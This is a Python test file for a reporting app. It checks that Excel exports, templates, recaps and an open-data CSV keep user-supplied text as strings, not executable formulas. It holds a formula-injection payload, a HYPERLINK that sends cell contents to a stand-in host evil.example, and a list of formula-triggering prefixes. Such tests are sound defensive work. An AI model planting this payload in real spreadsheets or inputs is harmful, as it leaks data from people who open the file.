"""User text reaches every workbook and the open-data CSV as text, never as a formula."""

import io

from openpyxl import load_workbook

from core.spreadsheets import csv_text
from reporting.models import Activity, Region, Report
from reporting.services import excel_export, excel_import
from reporting.services import reports as svc
from tests.integration.test_excel_export import make_filled_report

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def _evil_report(kabkota, pemda_user):
    report = make_filled_report(kabkota, pemda_user)
    entry = report.entries.get()
    svc.activity_create(report=report, user=pemda_user, entry_id=entry.pk, name=EVIL, pagu=10, realisasi=5)
    return excel_export.report_queryset(Report.objects.filter(pk=report.pk)).get()


def _saved(wb) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _cells_with(data: bytes, text: str):
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value == text]


def test_report_export_and_template_store_a_formula_looking_name_as_a_string(kabkota, pemda_user):
    report = _evil_report(kabkota, pemda_user)
    for template in (False, True):
        cells = _cells_with(_saved(excel_export.report_workbook(report, template=template)), EVIL)
        assert cells, template
        assert {cell.data_type for cell in cells} == {"s"}


def test_year_export_stores_a_formula_looking_name_as_a_string(kabkota, pemda_user):
    report = _evil_report(kabkota, pemda_user)
    cells = _cells_with(_saved(excel_export.year_workbook(Report.objects.filter(pk=report.pk))), EVIL)
    assert cells
    assert {cell.data_type for cell in cells} == {"s"}


def test_recap_stores_formula_looking_texts_as_strings(kabkota, pemda_user, tmp_path):
    report = _evil_report(kabkota, pemda_user)
    Region.objects.filter(pk=kabkota.pk).update(name="=1+1")
    output = tmp_path / "rekap.xlsx"
    excel_export.recap_write(
        period=report.period, reports=Report.objects.all(), regions=Region.objects.all(), output=str(output)
    )
    cells = _cells_with(output.read_bytes(), "=1+1")
    assert cells  # the "Belum dikirim" sheet lists the (unsent) report's pemda by name
    assert {cell.data_type for cell in cells} == {"s"}


def test_the_unchanged_template_imports_and_keeps_the_text_verbatim(kabkota, pemda_user):
    report = _evil_report(kabkota, pemda_user)
    data = _saved(excel_export.report_workbook(report, template=True))
    excel_import.report_import(report=report, user=pemda_user, data=data)
    assert Activity.objects.filter(entry__report=report, name=EVIL).count() == 1


def test_csv_fields_that_a_spreadsheet_would_run_are_quoted():
    for dangerous in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx"):
        assert csv_text(dangerous) == "'" + dangerous
    assert csv_text("Jawa Timur") == "Jawa Timur"
    assert csv_text(-5) == -5
